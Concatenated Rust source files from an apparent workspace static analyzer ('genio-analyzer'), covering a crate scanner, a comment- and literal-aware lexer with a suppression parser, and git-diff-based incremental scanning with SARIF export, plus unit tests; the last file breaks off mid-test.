//! the verify gate runs.

use std::fs;
use std::io;
use std::path::{Path, PathBuf};

use crate::baseline::{sort_findings, Report};
use crate::bridge;
use crate::lexer::tokenize;
use crate::rules::{annotate, has_forbid_unsafe, scan_tokens, FileContext, Finding, Rule};

/// Locates the enclosing workspace root by walking up from `start`
/// until a directory containing both `Cargo.toml` and `crates/` is
/// found.
pub fn find_root(start: &Path) -> Option<PathBuf> {
    let mut dir = Some(start);
    while let Some(d) = dir {
        if d.join("Cargo.toml").is_file() && d.join("crates").is_dir() {
            return Some(d.to_path_buf());
        }
        dir = d.parent();
    }
    None
}

/// The `(crate name, src dir)` pairs of a workspace tree, sorted by
/// name. The root facade package scans as crate `genio`.
fn crate_src_dirs(root: &Path) -> io::Result<Vec<(String, PathBuf)>> {
    let mut out = Vec::new();
    let crates = root.join("crates");
    if crates.is_dir() {
        for entry in fs::read_dir(&crates)? {
            let path = entry?.path();
            let src = path.join("src");
            if src.is_dir() {
                if let Some(name) = path.file_name().and_then(|n| n.to_str()) {
                    out.push((name.to_string(), src));
                }
            }
        }
    }
    let root_src = root.join("src");
    if root_src.is_dir() {
        out.push(("genio".to_string(), root_src));
    }
    out.sort();
    Ok(out)
}

/// Recursively lists `.rs` files under `dir`, sorted.
fn rust_files(dir: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
    let mut entries: Vec<PathBuf> = fs::read_dir(dir)?
        .collect::<Result<Vec<_>, _>>()?
        .into_iter()
        .map(|e| e.path())
        .collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            rust_files(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
    Ok(())
}

fn rel_path(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .components()
        .map(|c| c.as_os_str().to_string_lossy())
        .collect::<Vec<_>>()
        .join("/")
}

/// Scans every crate `src/` tree under `root` and returns the full
/// report: lexical rules per file, R3 per crate root, and the sast
/// bridge confirmation over R4/R5 findings.
pub fn scan(root: &Path) -> io::Result<Report> {
    let mut report = Report::default();
    for (crate_name, src_dir) in crate_src_dirs(root)? {
        let mut files = Vec::new();
        rust_files(&src_dir, &mut files)?;
        let mut saw_forbid = false;
        let mut lib_rel = rel_path(root, &src_dir.join("lib.rs"));
        for path in &files {
            let src = fs::read_to_string(path)?;
            let rel = rel_path(root, path);
            let file_name = path
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default();
            let tokens = tokenize(&src);
            let is_crate_root = file_name == "lib.rs" || file_name == "main.rs";
            if is_crate_root && has_forbid_unsafe(&tokens) {
                saw_forbid = true;
            }
            if file_name == "lib.rs" {
                lib_rel = rel.clone();
            }
            let ann = annotate(tokens);
            let ctx = FileContext {
                crate_name: &crate_name,
                rel_path: &rel,
                file_name: &file_name,
            };
            let (findings, accesses) = scan_tokens(&ctx, &ann);
            report.findings.extend(bridge::confirm(findings, &accesses));
            report.files += 1;
            report.lines += src.lines().count() as u64;
        }
        if !files.is_empty() && !saw_forbid {
            report.findings.push(Finding {
                rule: Rule::R3MissingForbid,
                file: lib_rel,
                line: 1,
                function: "-".to_string(),
                detail: "crate root missing #![forbid(unsafe_code)]".to_string(),
                confirmed: None,
            });
        }
    }
    sort_findings(&mut report.findings);
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn find_root_walks_upward() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root above crates/analyzer");
        assert!(root.join("crates").join("analyzer").is_dir());
    }

    #[test]
    fn self_scan_covers_every_crate() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = find_root(here).expect("workspace root");
        let report = scan(&root).expect("scan succeeds");
        // 14 seed crates + analyzer + the root facade, each with files.
        let dirs = crate_src_dirs(&root).expect("layout readable");
        assert!(dirs.len() >= 15, "expected >=15 src trees, got {}", dirs.len());
        assert!(report.files > 100, "scanned only {} files", report.files);
        assert!(report.lines > 10_000);
    }
}
