//! Lightweight Rust token scanner.
//!
//! The rule engine does not need a full parser: every rule in
//! [`crate::rules`] is expressible over a token stream that correctly
//! skips comments and string/char literals (the two places naive text
//! matching goes wrong — `// .unwrap()` in a doc comment must not count
//! as a call, and `"panic!"` inside a string is data, not code).
//!
//! The scanner handles the lexical subset the workspace actually uses:
//! line and (nested) block comments, cooked and raw strings, byte
//! strings, char literals vs lifetimes, raw identifiers, numeric
//! literals with suffixes, and a small set of multi-character operators
//! (`==`, `!=`, `::`, `..`, `->`, …) that the rules match on.

/// Classification of one token.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TokenKind {
    /// Identifier or keyword (`fn`, `unwrap`, `as`, …).
    Ident,
    /// Lifetime such as `'a` (disambiguated from char literals).
    Lifetime,
    /// String literal of any flavour (`"…"`, `r#"…"#`, `b"…"`).
    Str,
    /// Char or byte-char literal (`'x'`, `b'\n'`).
    Char,
    /// Numeric literal, suffix included (`42`, `0x1f`, `1.5e3`, `7u64`).
    Num,
    /// Punctuation / operator. Multi-character operators in
    /// [`MULTI_OPS`] arrive as one token; everything else is one char.
    Punct,
    /// Line or block comment, content included (kept for the debt rule).
    Comment,
}

/// One scanned token with its 1-based source line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    /// Token class.
    pub kind: TokenKind,
    /// Raw text as it appears in the source.
    pub text: String,
    /// 1-based line of the token's first character.
    pub line: u32,
}

/// Multi-character operators recognised as single tokens, longest first.
const MULTI_OPS: &[&str] = &[
    "..=", "==", "!=", "<=", ">=", "&&", "||", "::", "..", "->", "=>",
];

/// Tokenizes `src`. Never fails: unterminated literals are consumed to
/// end-of-input, unknown bytes become single-char punctuation.
pub fn tokenize(src: &str) -> Vec<Token> {
    Lexer {
        bytes: src.as_bytes(),
        pos: 0,
        line: 1,
        tokens: Vec::new(),
    }
    .run()
}

struct Lexer<'a> {
    bytes: &'a [u8],
    pos: usize,
    line: u32,
    tokens: Vec<Token>,
}

impl Lexer<'_> {
    fn run(mut self) -> Vec<Token> {
        while let Some(b) = self.peek(0) {
            match b {
                b' ' | b'\t' | b'\r' => self.pos += 1,
                b'\n' => {
                    self.pos += 1;
                    self.line += 1;
                }
                b'/' if self.peek(1) == Some(b'/') => self.line_comment(),
                b'/' if self.peek(1) == Some(b'*') => self.block_comment(),
                b'"' => self.cooked_string(),
                b'r' if self.raw_string_ahead(1) => self.raw_string(1),
                b'b' if self.peek(1) == Some(b'"') => {
                    self.pos += 1;
                    self.cooked_string();
                }
                b'b' if self.peek(1) == Some(b'\'') => {
                    self.pos += 1;
                    self.char_literal();
                }
                b'b' if self.peek(1) == Some(b'r') && self.raw_string_ahead(2) => {
                    self.raw_string(2)
                }
                b'r' if self.peek(1) == Some(b'#')
                    && self.peek(2).is_some_and(is_ident_start) =>
                {
                    // Raw identifier r#type. The `r#` prefix is kept in
                    // the token text so `r#fn` / `r#type` can never be
                    // mistaken for the `fn` / `type` keywords by the
                    // annotation pass (a keyword desync the v2 summary
                    // parser would amplify into wrong call attribution).
                    let (start, line) = (self.pos, self.line);
                    self.pos += 2;
                    while self.peek(0).is_some_and(is_ident_continue) {
                        self.pos += 1;
                    }
                    self.push(TokenKind::Ident, start, line);
                }
                b'\'' => self.char_or_lifetime(),
                b if is_ident_start(b) => self.ident(),
                b if b.is_ascii_digit() => self.number(),
                _ => self.punct(),
            }
        }
        self.tokens
    }

    fn peek(&self, ahead: usize) -> Option<u8> {
        self.bytes.get(self.pos + ahead).copied()
    }

    fn push(&mut self, kind: TokenKind, start: usize, line: u32) {
        let text = String::from_utf8_lossy(&self.bytes[start..self.pos]).into_owned();
        self.tokens.push(Token { kind, text, line });
    }

    fn line_comment(&mut self) {
        let (start, line) = (self.pos, self.line);
        while let Some(b) = self.peek(0) {
            if b == b'\n' {
                break;
            }
            self.pos += 1;
        }
        self.push(TokenKind::Comment, start, line);
    }

    fn block_comment(&mut self) {
        let (start, line) = (self.pos, self.line);
        self.pos += 2;
        let mut depth = 1u32;
        while depth > 0 {
            match (self.peek(0), self.peek(1)) {
                (Some(b'/'), Some(b'*')) => {
                    depth += 1;
                    self.pos += 2;
                }
                (Some(b'*'), Some(b'/')) => {
                    depth -= 1;
                    self.pos += 2;
                }
                (Some(b'\n'), _) => {
                    self.line += 1;
                    self.pos += 1;
                }
                (Some(_), _) => self.pos += 1,
                (None, _) => break,
            }
        }
        self.push(TokenKind::Comment, start, line);
    }

    fn cooked_string(&mut self) {
        let (start, line) = (self.pos, self.line);
        self.pos += 1; // opening quote
        while let Some(b) = self.peek(0) {
            match b {
                b'\\' => self.pos += 2,
                b'"' => {
                    self.pos += 1;
                    break;
                }
                b'\n' => {
                    self.line += 1;
                    self.pos += 1;
                }
                _ => self.pos += 1,
            }
        }
        self.push(TokenKind::Str, start, line);
    }

    /// Is `r#*"` (any number of hashes, possibly zero) at `pos + offset`?
    fn raw_string_ahead(&self, offset: usize) -> bool {
        let mut i = offset;
        while self.peek(i) == Some(b'#') {
            i += 1;
        }
        self.peek(i) == Some(b'"')
    }

    /// Lexes `r"…"`, `r#"…"#`, `br##"…"##`; `prefix_len` covers `r`/`br`.
    fn raw_string(&mut self, prefix_len: usize) {
        let (start, line) = (self.pos, self.line);
        self.pos += prefix_len;
        let mut hashes = 0usize;
        while self.peek(0) == Some(b'#') {
            hashes += 1;
            self.pos += 1;
        }
        self.pos += 1; // opening quote
        'outer: while let Some(b) = self.peek(0) {
            if b == b'\n' {
                self.line += 1;
            }
            if b == b'"' {
                for i in 0..hashes {
                    if self.peek(1 + i) != Some(b'#') {
                        self.pos += 1;
                        continue 'outer;
                    }
                }
                self.pos += 1 + hashes;
                break;
            }
            self.pos += 1;
        }
        self.push(TokenKind::Str, start, line);
    }

    /// At a `'`: either a char literal (`'x'`, `'\n'`) or a lifetime
    /// (`'a`, `'static`). A quote is a char literal iff an escape follows
    /// or the single scalar after it is closed by another quote.
    fn char_or_lifetime(&mut self) {
        if self.peek(1) == Some(b'\\') {
            return self.char_literal();
        }
        // A non-ASCII scalar ('é', '𝕏') can only be a char literal —
        // lifetimes are ASCII identifiers. Without this case the UTF-8
        // continuation bytes fell through to single-byte punctuation and
        // the closing quote of the literal desynced later scanning.
        if self.peek(1).is_some_and(|b| b >= 0x80) {
            return self.char_literal();
        }
        // 'X' for any single byte X (covers '.', '(', 'a') — char literal.
        if self.peek(2) == Some(b'\'') && self.peek(1) != Some(b'\'') {
            return self.char_literal();
        }
        // Find the end of the ident-ish run after the quote.
        let mut i = 1;
        while self.peek(i).is_some_and(is_ident_continue) {
            i += 1;
        }
        if i >= 2 && self.peek(i) == Some(b'\'') && i <= 4 {
            // Multi-byte scalar like 'é' — a char literal.
            self.char_literal()
        } else if i > 1 {
            let (start, line) = (self.pos, self.line);
            self.pos += i;
            self.push(TokenKind::Lifetime, start, line);
        } else {
            // Bare quote (e.g. inside a macro pattern): punctuation.
            self.punct();
        }
    }

    fn char_literal(&mut self) {
        let (start, line) = (self.pos, self.line);
        self.pos += 1; // opening quote
        while let Some(b) = self.peek(0) {
            match b {
                b'\\' => self.pos += 2,
                b'\'' => {
                    self.pos += 1;
                    break;
                }
                _ => self.pos += 1,
            }
        }
        self.push(TokenKind::Char, start, line);
    }

    fn ident(&mut self) {
        let (start, line) = (self.pos, self.line);
        while self.peek(0).is_some_and(is_ident_continue) {
            self.pos += 1;
        }
        self.push(TokenKind::Ident, start, line);
    }

    fn number(&mut self) {
        let (start, line) = (self.pos, self.line);
        while let Some(b) = self.peek(0) {
            // Stop before `..` so ranges like `0..8` stay three tokens,
            // and before `.ident` so `1.max(2)` does not swallow the
            // method name into the numeric literal (`1.` and `1.5` both
            // still lex as one number).
            if b == b'.'
                && self
                    .peek(1)
                    .is_some_and(|n| n == b'.' || is_ident_start(n))
            {
                break;
            }
            if b.is_ascii_alphanumeric() || b == b'_' || b == b'.' {
                self.pos += 1;
            } else if (b == b'+' || b == b'-')
                && matches!(self.bytes.get(self.pos - 1), Some(b'e') | Some(b'E'))
            {
                // Exponent sign in 1.5e-3.
                self.pos += 1;
            } else {
                break;
            }
        }
        self.push(TokenKind::Num, start, line);
    }

    fn punct(&mut self) {
        let (start, line) = (self.pos, self.line);
        for op in MULTI_OPS {
            if self.bytes[self.pos..].starts_with(op.as_bytes()) {
                self.pos += op.len();
                self.push(TokenKind::Punct, start, line);
                return;
            }
        }
        // Any single byte (multi-byte UTF-8 only occurs inside literals
        // and comments in real Rust source, but stay lossless anyway).
        let mut len = 1;
        while self.pos + len < self.bytes.len()
            && (self.bytes[self.pos + len] & 0b1100_0000) == 0b1000_0000
        {
            len += 1;
        }
        self.pos += len;
        self.push(TokenKind::Punct, start, line);
    }
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_ident_continue(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Parses the scoped-suppression syntax out of one comment token's text:
///
/// ```text
/// // genio-analyzer: allow(R11, reason = "table-driven AES, item 2")
/// // genio-analyzer: allow(R10, R12, reason = "key-format dispatch")
/// ```
///
/// Returns the rule ids and the (mandatory, non-empty) reason, or `None`
/// when the comment is not a well-formed allow — malformed suppressions
/// are deliberately inert rather than best-effort-honoured, so a typo
/// can never silently widen what is suppressed.
pub fn parse_allow(comment: &str) -> Option<(Vec<String>, String)> {
    let rest = comment.split("genio-analyzer:").nth(1)?;
    let rest = rest.trim_start();
    let rest = rest.strip_prefix("allow")?.trim_start();
    let rest = rest.strip_prefix('(')?;

    // Rule list runs up to the `reason` keyword; the reason itself is a
    // quoted string that may contain commas and parens (not quotes).
    let ridx = rest.find("reason")?;
    let rules: Vec<String> = rest[..ridx]
        .split(',')
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .map(str::to_string)
        .collect();

    let after = rest[ridx + "reason".len()..].trim_start();
    let after = after.strip_prefix('=')?.trim_start();
    let after = after.strip_prefix('"')?;
    let q = after.find('"')?;
    let reason = after[..q].trim();
    let tail = after[q + 1..].trim_start();
    if rules.is_empty() || reason.is_empty() || !tail.starts_with(')') {
        return None;
    }
    Some((rules, reason.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<(TokenKind, String)> {
        tokenize(src)
            .into_iter()
            .map(|t| (t.kind, t.text))
            .collect()
    }

    #[test]
    fn comments_are_not_code() {
        let toks = kinds("// x.unwrap()\nlet y; /* panic! */");
        assert_eq!(toks[0].0, TokenKind::Comment);
        assert_eq!(toks[1], (TokenKind::Ident, "let".into()));
        assert_eq!(toks.last().unwrap().0, TokenKind::Comment);
    }

    #[test]
    fn nested_block_comments_close_correctly() {
        let toks = kinds("/* a /* b */ c */ fin");
        assert_eq!(toks.len(), 2);
        assert_eq!(toks[1], (TokenKind::Ident, "fin".into()));
    }

    #[test]
    fn strings_swallow_their_content() {
        let toks = kinds(r#"let s = "panic!(\"x\")";"#);
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Str && t.contains("panic")));
        assert!(!toks.iter().any(|(k, t)| *k == TokenKind::Ident && t == "panic"));
    }

    #[test]
    fn raw_and_byte_strings() {
        let toks = kinds(r###"let a = r#"un"wrap"#; let b = b"bytes"; let c = br"raw";"###);
        let strs: Vec<_> = toks.iter().filter(|(k, _)| *k == TokenKind::Str).collect();
        assert_eq!(strs.len(), 3);
    }

    #[test]
    fn lifetimes_vs_chars() {
        let toks = kinds("fn f<'a>(x: &'a str) { let c = 'x'; let n = '\\n'; }");
        let lifetimes = toks.iter().filter(|(k, _)| *k == TokenKind::Lifetime).count();
        let chars = toks.iter().filter(|(k, _)| *k == TokenKind::Char).count();
        assert_eq!(lifetimes, 2);
        assert_eq!(chars, 2);
    }

    #[test]
    fn static_lifetime_is_not_a_char() {
        let toks = kinds("&'static str");
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Lifetime && t == "'static"));
    }

    #[test]
    fn multi_char_operators() {
        let toks = kinds("a == b != c .. d ..= e :: f -> g");
        let ops: Vec<_> = toks
            .iter()
            .filter(|(k, _)| *k == TokenKind::Punct)
            .map(|(_, t)| t.as_str())
            .collect();
        assert_eq!(ops, vec!["==", "!=", "..", "..=", "::", "->"]);
    }

    #[test]
    fn numbers_and_ranges() {
        let toks = kinds("bytes[0..8] 0x1f 1.5e-3 7u64");
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "0"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "8"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "0x1f"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "1.5e-3"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "7u64"));
    }

    #[test]
    fn byte_char_is_a_char() {
        let toks = kinds("self.expect(b'\"')?");
        assert!(toks.iter().any(|(k, _)| *k == TokenKind::Char));
        // The argument is a Char token, not a Str — rule R1 relies on this.
        assert!(!toks.iter().any(|(k, _)| *k == TokenKind::Str));
    }

    #[test]
    fn lines_are_tracked_through_literals() {
        let toks = tokenize("let a = \"x\ny\";\nlet b = 1;");
        let b = toks.iter().find(|t| t.text == "b").unwrap();
        assert_eq!(b.line, 3);
    }

    #[test]
    fn raw_identifier_is_an_ident() {
        let toks = kinds("let r#type = 1;");
        // The r# prefix is retained so `r#fn` / `r#type` never collide
        // with the `fn` / `type` keywords in the annotation pass.
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Ident && t == "r#type"));
        assert!(!toks.iter().any(|(k, t)| *k == TokenKind::Ident && t == "type"));
    }

    #[test]
    fn raw_fn_identifier_is_not_the_fn_keyword() {
        let toks = kinds("let r#fn = 2; fn real() {}");
        let fns: Vec<_> = toks
            .iter()
            .filter(|(k, t)| *k == TokenKind::Ident && t == "fn")
            .collect();
        assert_eq!(fns.len(), 1, "only the real `fn` keyword may lex as `fn`");
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Ident && t == "r#fn"));
    }

    #[test]
    fn raw_string_with_partial_terminators() {
        // `"#` inside an `r##"…"##` body is NOT a terminator; the scan
        // must continue to the matching `"##`.
        let toks = kinds(r####"let s = r##"quote "# inside"##; after"####);
        let strs: Vec<_> = toks.iter().filter(|(k, _)| *k == TokenKind::Str).collect();
        assert_eq!(strs.len(), 1);
        assert!(strs[0].1.contains("inside"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Ident && t == "after"));
    }

    #[test]
    fn raw_string_tracks_lines() {
        let toks = tokenize("let a = r#\"x\ny\nz\"#;\nlet b = 1;");
        let b = toks.iter().find(|t| t.text == "b").unwrap();
        assert_eq!(b.line, 4);
    }

    #[test]
    fn lifetimes_in_generic_lists_and_labels() {
        let toks = kinds("fn f<'a, 'b>(x: &'a str, y: &'b [u8]) { 'outer: loop { break 'outer; } let w = &'_ ();}");
        let lifetimes: Vec<_> = toks
            .iter()
            .filter(|(k, _)| *k == TokenKind::Lifetime)
            .map(|(_, t)| t.as_str())
            .collect();
        assert_eq!(lifetimes, vec!["'a", "'b", "'a", "'b", "'outer", "'outer", "'_"]);
        assert!(!toks.iter().any(|(k, _)| *k == TokenKind::Char));
    }

    #[test]
    fn non_ascii_char_literal_does_not_desync() {
        // 'é' is two UTF-8 bytes; '𝕏' is four. Both must lex as one
        // Char token so the closing quote cannot open a phantom
        // lifetime/char and desync everything after it.
        let toks = kinds("let a = 'é'; let b = '𝕏'; done.unwrap()");
        let chars = toks.iter().filter(|(k, _)| *k == TokenKind::Char).count();
        assert_eq!(chars, 2);
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Ident && t == "unwrap"));
    }

    #[test]
    fn method_call_on_int_literal_is_not_one_number() {
        let toks = kinds("let m = 1.max(2); let f = 1.5; let t = 1.;");
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "1"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Ident && t == "max"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "1.5"));
        assert!(toks.iter().any(|(k, t)| *k == TokenKind::Num && t == "1."));
        assert!(!toks.iter().any(|(k, t)| *k == TokenKind::Num && t.contains("max")));
    }
}
