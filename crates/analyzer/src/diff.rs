//! R18 — diff-aware incremental scanning and SARIF export.
//!
//! `genio-analyzer --diff <git-ref>` answers the review-time question
//! *"which findings did this change introduce?"* without a second
//! checkout: the current tree is scanned normally (warm cache applies),
//! the changed files' base-revision contents are recovered with
//! `git show <ref>:<path>`, and [`crate::workspace::rescan_with_base`]
//! rebases the live scan's snapshot in memory over the spliced base
//! tree. The introduced set is the ratchet diff
//! ([`crate::baseline::diff`]) of current against base — the same
//! line-free `(rule, file, function, detail)` multiset semantics the
//! baseline gate uses, so a pure line shift is never "introduced" and
//! an empty git diff yields an empty finding diff by construction.
//!
//! The cost model: the base scan re-lexes only the changed files and
//! reuses every other file's facts from the live scan's snapshot (no
//! file I/O, hashing or cache traffic), so a one-file change costs one
//! incremental scan plus one in-memory rebase instead of two full
//! scans. [`crate::workspace::scan_with_base`] remains the from-disk
//! reference implementation the differential test pins the rebase
//! against.
//!
//! [`to_sarif`] renders any [`Report`] as a minimal SARIF 2.1.0
//! document (tagged `genio-analyzer-sarif/v1` in the run properties)
//! for consumption by code-review UIs; `--sarif <file>` writes it and
//! the verify gate re-parses it with the testkit JSON parser.

use std::io;
use std::path::Path;
use std::process::Command;

use genio_testkit::json::Value;

use crate::baseline::{self, Report};
use crate::rules::{Finding, Rule};
use crate::workspace::{rescan_with_base, scan_snapshot, ScanOptions, ScanStats};

/// Diff-scan document schema tag.
pub const DIFF_SCHEMA: &str = "genio-analyzer-diff/v1";

/// SARIF export tag (recorded in the run's property bag).
pub const SARIF_SCHEMA: &str = "genio-analyzer-sarif/v1";

/// Outcome of a `--diff` scan.
#[derive(Debug, Clone)]
pub struct DiffReport {
    /// The git ref the scan compared against (as given by the user).
    pub base_ref: String,
    /// Repo-relative scanned `.rs` files that differ from the base.
    pub changed_files: Vec<String>,
    /// Findings present now but not at the base (line-free multiset
    /// semantics).
    pub findings: Vec<Finding>,
    /// Stats of the current-tree scan (the base scan never writes the
    /// cache, so its traffic is not interesting).
    pub stats: ScanStats,
}

/// Is `rel` a path the workspace scanner would visit?
fn is_scanned_path(rel: &str) -> bool {
    if !rel.ends_with(".rs") {
        return false;
    }
    let mut parts = rel.split('/');
    match parts.next() {
        Some("crates") => parts.next().is_some() && parts.next() == Some("src"),
        Some("src") => true,
        _ => false,
    }
}

fn run_git(root: &Path, args: &[&str]) -> io::Result<Option<Vec<u8>>> {
    let out = Command::new("git")
        .arg("-C")
        .arg(root)
        .args(args)
        .output()?;
    Ok(out.status.success().then_some(out.stdout))
}

/// The scanned files changed since `git_ref`, each with its content at
/// the base (`None` when the file did not exist there).
pub fn git_changed_files(
    root: &Path,
    git_ref: &str,
) -> io::Result<Vec<(String, Option<String>)>> {
    let listing = run_git(root, &["diff", "--name-only", git_ref])?
        .ok_or_else(|| io::Error::other(format!("git diff against {git_ref:?} failed")))?;
    let mut changed = Vec::new();
    for rel in String::from_utf8_lossy(&listing).lines() {
        let rel = rel.trim();
        if !is_scanned_path(rel) {
            continue;
        }
        let base = run_git(root, &["show", &format!("{git_ref}:{rel}")])?
            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
        changed.push((rel.to_string(), base));
    }
    changed.sort();
    Ok(changed)
}

/// Scans the current tree and the spliced base tree, returning only the
/// findings the change introduced. `changed` is the output of
/// [`git_changed_files`] (separated so tests can splice without git).
pub fn diff_scan(
    root: &Path,
    opts: &ScanOptions,
    base_ref: &str,
    changed: &[(String, Option<String>)],
) -> io::Result<DiffReport> {
    let (current, stats, snapshot) = scan_snapshot(root, opts)?;
    let findings = if changed.is_empty() {
        // No textual change ⇒ no finding change; skip the base scan.
        Vec::new()
    } else {
        // Rebase the snapshot in memory: only the changed files are
        // re-lexed, the rest reuse the facts the live scan just built.
        let base = rescan_with_base(&snapshot, opts, changed);
        baseline::diff(&current.findings, &base.findings).new
    };
    Ok(DiffReport {
        base_ref: base_ref.to_string(),
        changed_files: changed.iter().map(|(rel, _)| rel.clone()).collect(),
        findings,
        stats,
    })
}

impl DiffReport {
    /// Serializes to the `genio-analyzer-diff/v1` JSON document.
    pub fn to_json(&self) -> Value {
        let findings = self
            .findings
            .iter()
            .map(|f| {
                let mut fields = vec![
                    ("rule".to_string(), Value::Str(f.rule.id().to_string())),
                    ("file".to_string(), Value::Str(f.file.clone())),
                    ("line".to_string(), Value::Num(f.line as f64)),
                    ("function".to_string(), Value::Str(f.function.clone())),
                    ("detail".to_string(), Value::Str(f.detail.clone())),
                ];
                if let Some(c) = f.confirmed {
                    fields.push(("confirmed".to_string(), Value::Bool(c)));
                }
                Value::Obj(fields)
            })
            .collect();
        Value::Obj(vec![
            ("schema".to_string(), Value::Str(DIFF_SCHEMA.to_string())),
            ("base_ref".to_string(), Value::Str(self.base_ref.clone())),
            (
                "changed_files".to_string(),
                Value::Arr(
                    self.changed_files
                        .iter()
                        .map(|f| Value::Str(f.clone()))
                        .collect(),
                ),
            ),
            ("findings".to_string(), Value::Arr(findings)),
        ])
    }
}

/// Renders a report as a minimal SARIF 2.1.0 document. Rule metadata
/// comes from the live catalog; every finding becomes a `result` with a
/// physical location.
pub fn to_sarif(report: &Report) -> Value {
    let rules = Rule::ALL
        .iter()
        .map(|r| {
            Value::Obj(vec![
                ("id".to_string(), Value::Str(r.id().to_string())),
                (
                    "shortDescription".to_string(),
                    Value::Obj(vec![(
                        "text".to_string(),
                        Value::Str(r.title().to_string()),
                    )]),
                ),
            ])
        })
        .collect();
    let results = report
        .findings
        .iter()
        .map(|f| {
            Value::Obj(vec![
                ("ruleId".to_string(), Value::Str(f.rule.id().to_string())),
                ("level".to_string(), Value::Str("warning".to_string())),
                (
                    "message".to_string(),
                    Value::Obj(vec![(
                        "text".to_string(),
                        Value::Str(format!("{} (in `{}`)", f.detail, f.function)),
                    )]),
                ),
                (
                    "locations".to_string(),
                    Value::Arr(vec![Value::Obj(vec![(
                        "physicalLocation".to_string(),
                        Value::Obj(vec![
                            (
                                "artifactLocation".to_string(),
                                Value::Obj(vec![(
                                    "uri".to_string(),
                                    Value::Str(f.file.clone()),
                                )]),
                            ),
                            (
                                "region".to_string(),
                                Value::Obj(vec![(
                                    "startLine".to_string(),
                                    Value::Num(f.line as f64),
                                )]),
                            ),
                        ]),
                    )])]),
                ),
            ])
        })
        .collect();
    Value::Obj(vec![
        (
            "$schema".to_string(),
            Value::Str(
                "https://json.schemastore.org/sarif-2.1.0.json".to_string(),
            ),
        ),
        ("version".to_string(), Value::Str("2.1.0".to_string())),
        (
            "runs".to_string(),
            Value::Arr(vec![Value::Obj(vec![
                (
                    "tool".to_string(),
                    Value::Obj(vec![(
                        "driver".to_string(),
                        Value::Obj(vec![
                            (
                                "name".to_string(),
                                Value::Str("genio-analyzer".to_string()),
                            ),
                            ("rules".to_string(), Value::Arr(rules)),
                        ]),
                    )]),
                ),
                (
                    "properties".to_string(),
                    Value::Obj(vec![(
                        "exportSchema".to_string(),
                        Value::Str(SARIF_SCHEMA.to_string()),
                    )]),
                ),
                ("results".to_string(), Value::Arr(results)),
            ])]),
        ),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scanned_path_filter_matches_workspace_layout() {
        assert!(is_scanned_path("crates/crypto/src/aes.rs"));
        assert!(is_scanned_path("crates/pon/src/engine/shard.rs"));
        assert!(is_scanned_path("src/lib.rs"));
        assert!(!is_scanned_path("crates/crypto/tests/kat.rs"));
        assert!(!is_scanned_path("crates/crypto/src/aes.md"));
        assert!(!is_scanned_path("scripts/verify.sh"));
        assert!(!is_scanned_path("crates/Cargo.toml"));
    }

    #[test]
    fn sarif_document_shape_survives_the_testkit_parser() {
        let report = Report {
            files: 1,
            lines: 10,
            suppressed: 0,
            allowed: 0,
            findings: vec![Finding {
                rule: Rule::R16PanicReachable,
                file: "crates/crypto/src/aes.rs".to_string(),
                line: 7,
                function: "stage".to_string(),
                detail: "call to .unwrap() reachable from hot entry `seal_many`"
                    .to_string(),
                confirmed: Some(true),
            }],
        };
        let text = to_sarif(&report).to_string();
        let v = genio_testkit::json::parse(&text).expect("valid JSON");
        assert_eq!(v.get("version").and_then(Value::as_str), Some("2.1.0"));
        let runs = v.get("runs").and_then(Value::as_arr).unwrap();
        let run = &runs[0];
        assert_eq!(
            run.get("properties")
                .and_then(|p| p.get("exportSchema"))
                .and_then(Value::as_str),
            Some(SARIF_SCHEMA)
        );
        let results = run.get("results").and_then(Value::as_arr).unwrap();
        assert_eq!(results.len(), 1);
        assert_eq!(
            results[0].get("ruleId").and_then(Value::as_str),
            Some("R16")
        );
        let loc = results[0].get("locations").and_then(Value::as_arr).unwrap()[0]
            .get("physicalLocation")
            .unwrap();
        assert_eq!(
            loc.get("artifactLocation")
                .and_then(|a| a.get("uri"))
                .and_then(Value::as_str),
            Some("crates/crypto/src/aes.rs")
        );
        assert_eq!(
            loc.get("region")
                .and_then(|r| r.get("startLine"))
                .and_then(Value::as_f64),
            Some(7.0)
        );
        // Every catalog rule is declared to the driver.
        let rules = run
            .get("tool")
            .and_then(|t| t.get("driver"))
            .and_then(|d| d.get("rules"))
            .and_then(Value::as_arr)
            .unwrap();
        assert_eq!(rules.len(), Rule::ALL.len());
    }

    #[test]
    fn diff_report_json_has_the_v1_shape() {
        let d = DiffReport {
            base_ref: "HEAD~1".to_string(),
            changed_files: vec!["crates/pon/src/security.rs".to_string()],
            findings: vec![Finding {
                rule: Rule::R1PanicPath,
                file: "crates/pon/src/security.rs".to_string(),
                line: 3,
                function: "f".to_string(),
